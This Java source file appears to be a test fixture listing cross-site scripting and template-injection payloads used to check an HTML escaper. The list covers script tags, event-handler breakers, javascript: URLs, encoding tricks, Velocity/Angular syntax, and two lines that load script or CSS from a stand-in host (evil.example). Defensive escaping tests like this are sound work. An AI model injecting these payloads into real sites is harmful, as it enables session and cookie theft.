package io.throughline.web.view.html;

import java.util.List;

/**
 * Hostile text for escaping tests: markup, attribute breakers, dangerous URL schemes, entity and
 * unicode tricks, and template syntax (Velocity, Angular) that must stay inert when it is data.
 * Every payload is one line without control characters, so the core accepts it as user text.
 */
public final class XssPayloads {

    public static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "\"><img src=x onerror=alert(1)>",
            "'><img src=x onerror=alert(1)>",
            "\" onfocus=\"alert(1)\" autofocus=\"",
            "' onfocus='alert(1)' autofocus='",
            "` onmouseover=alert(1) `",
            "javascript:alert(1)",
            "JaVaScRiPt:alert(document.cookie)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "vbscript:msgbox(1)",
            "<svg onload=alert(1)>",
            "<svg/onload=alert(1)//",
            "<img src=x:alert(alt) onerror=eval(src) alt=0>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<a href=\"javascript:alert(1)\">click</a>",
            "<body onload=alert(1)>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<style>@import'http://evil.example/x.css';</style>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<object data=\"data:text/html,<script>alert(1)</script>\">",
            "<div style=\"background:url(javascript:alert(1))\">",
            "<form action=\"javascript:alert(1)\"><button>x</button></form>",
            "</textarea><script>alert(1)</script>",
            "</div></dd></li></ul><script>alert(1)</script>",
            "<!--<script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "&#x3C;img src=x onerror=alert(1)&#x3E;",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "＜script＞alert(1)＜/script＞",
            "\u2028<script>alert(1)</script>\u2029",
            "$foo $!bar ${baz}",
            "#set($x = 666)$x",
            "#foreach($i in [1..3])loop#end",
            "#if(true)yes#else no#end ## comment #* block *#",
            "${panel.summaryHtml} $panel.getRestBaseHtml()",
            "{{constructor.constructor('alert(1)')()}}",
            "<%= 7*7 %> ${7*7} #{7*7}");

    private XssPayloads() {
    }

    /** True when the payload holds a character the escaper must change, so its raw form must never appear. */
    public static boolean needsEscaping(String payload) {
        return payload.chars().anyMatch(c -> "&<>\"'`=".indexOf(c) >= 0);
    }
}
